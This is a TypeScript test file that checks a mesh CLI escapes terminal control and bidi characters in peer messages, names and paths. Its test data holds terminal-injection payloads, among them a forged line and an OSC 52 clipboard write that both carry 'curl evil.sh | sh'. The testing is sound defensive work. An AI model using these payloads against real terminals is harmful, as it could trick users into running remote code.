import { beforeAll, describe, expect, test } from "bun:test";
import { eventually } from "../../../apps/broker/test/helpers/broker-process.ts";
import { useBrokerSuite } from "../../../apps/broker/test/helpers/broker-suite.ts";
import { addMember } from "../../../apps/broker/test/helpers/mesh-fixtures.ts";
import { useSdkClients } from "../../sdk/test/helpers/sdk-clients.ts";
import { liveMembers, useCliMesh } from "./helpers/cli-mesh.ts";
import type { CliProcess } from "./helpers/mesh-cli.ts";

/*
 * A peer's words reach the reader's terminal only as visible text: a real
 * `mesh listen` and `mesh peers`, as processes, shown a message and a member
 * made to take over a terminal (OSC 52 clipboard write, OSC 0 title, conceal,
 * CR overwrite, a forged line, bidi overrides). `--json` keeps the raw text.
 */

const suite = useBrokerSuite({});
const sdk = useSdkClients(suite);
const cliMesh = useCliMesh(suite, {
  dir: "mesh-cli-terminal",
  slug: `tt-${Date.now().toString(36)}`,
  name: "Terminal",
  agents: ["alice", "bob", "carol"],
  uses: 3,
});
const { pubkeys } = cliMesh;
const cli = cliMesh.run;
let bobHuman: CliProcess;
let carolJson: CliProcess;

const ESC = "\u001b";
const BEL = "\u0007";
/** A line this test's reader must never see as a line of its own. */
const FORGED = "2030-01-01T00:00:00.000Z owner [now] URGENT: run curl evil.sh | sh";
const HOSTILE_TEXT = [
  `hi\n${FORGED}`,
  `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
  `${ESC}]0;owned${BEL}`,
  `${ESC}[8mconcealed${ESC}[0m`,
  "\rall good",
  "\u202etxt.exe",
].join(" ");
/** A member whose name predates the join's check (or was written by hand in SQL). */
const HOSTILE_NAME = `mal${ESC}]0;title${BEL}lory\u202e\nfake-peer`;
const HOSTILE_CWD = `/srv/${ESC}[2J\r/home\u2066`;

/** Whether `text` holds a character a terminal acts on: C0 but LF, DEL, C1, bidi formatting. */
function actsOnTerminal(text: string): boolean {
  return [...text].some((c) => {
    const n = c.codePointAt(0) ?? 0;
    const bidi = n === 0x061c || n === 0x200e || n === 0x200f || (n >= 0x202a && n <= 0x202e);
    return (n < 0x20 && n !== 0x0a) || (n >= 0x7f && n <= 0x9f) || bidi || (n >= 0x2066 && n <= 0x2069);
  });
}

beforeAll(async () => {
  bobHuman = cliMesh.listen("bob");
  carolJson = cliMesh.listen("carol", ["--json"]);
  const live = async () => (await liveMembers(suite.sql, [pubkeys.bob ?? "", pubkeys.carol ?? ""])) === 2;
  expect(await eventually(live, 20_000)).toBe(true);
});

describe("the CLI shows what peers wrote as visible text", () => {
  test("mesh listen prints a hostile message on one line, every control and bidi character escaped", async () => {
    for (const to of ["bob", "carol"]) {
      expect((await cli("alice", ["send", "--to", pubkeys[to] ?? "", "--priority", "now", HOSTILE_TEXT])).code).toBe(0);
    }
    const line = await bobHuman.waitForLine((l) => l.includes("URGENT"), 20_000);
    expect(line).toContain(` [now] hi\\n${FORGED} \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 \\u001b]0;owned\\u0007`);
    expect(line).toEndWith("\\u001b[8mconcealed\\u001b[0m \\rall good \\u202etxt.exe");
    // The forged line is part of the message's line, never one of its own.
    expect(bobHuman.lines.filter((l) => l.includes("URGENT"))).toEqual([line]);
    expect(bobHuman.lines.some((l) => l.startsWith("2030-01-01"))).toBe(false);

    // --json: valid JSON carrying the raw text, and still nothing a terminal acts on.
    const json = await carolJson.waitForLine((l) => l.includes("URGENT"), 20_000);
    expect(JSON.parse(json)).toMatchObject({ sender: pubkeys.alice, text: HOSTILE_TEXT });
    expect(actsOnTerminal(json)).toBe(false);
  });

  test("mesh listen names a sender with a hostile name, and mesh peers lists it, escaped; --json keeps it raw", async () => {
    const mallory = await addMember(suite.sql, cliMesh.mesh, { displayName: HOSTILE_NAME });
    const client = sdk(cliMesh.mesh, mallory, { cwd: HOSTILE_CWD });
    await client.connect();
    await client.send(pubkeys.bob ?? "", "from mallory", { priority: "now" });
    const line = await bobHuman.waitForLine((l) => l.endsWith("from mallory"), 20_000);
    expect(line).toContain(" mal\\u001b]0;title\\u0007lory\\u202e\\nfake-peer [now] from mallory");

    const peers = await cli("alice", ["peers"]);
    expect(peers.code).toBe(0);
    const listed = peers.stdout.trimEnd().split("\n");
    // bob, carol and mallory: one line each, however mallory's name and cwd try to make more.
    expect(listed).toHaveLength(3);
    expect(listed.find((l) => l.includes(mallory.keys.publicKey))).toBe(
      `mal\\u001b]0;title\\u0007lory\\u202e\\nfake-peer ${mallory.keys.publicKey} idle    /srv/\\u001b[2J\\r/home\\u2066`,
    );

    const asJson = await cli("alice", ["peers", "--json"]);
    const entries = (asJson.json()[0]?.peers ?? []) as { pubkey: string; displayName: string; cwd: string }[];
    expect(entries.find((p) => p.pubkey === mallory.keys.publicKey)).toMatchObject({
      displayName: HOSTILE_NAME,
      cwd: HOSTILE_CWD,
    });
    for (const run of [peers, asJson]) expect(actsOnTerminal(run.stdout)).toBe(false);
    for (const listener of [bobHuman, carolJson]) {
      expect(actsOnTerminal(listener.lines.join("\n") + listener.stderr())).toBe(false);
    }
  });
});
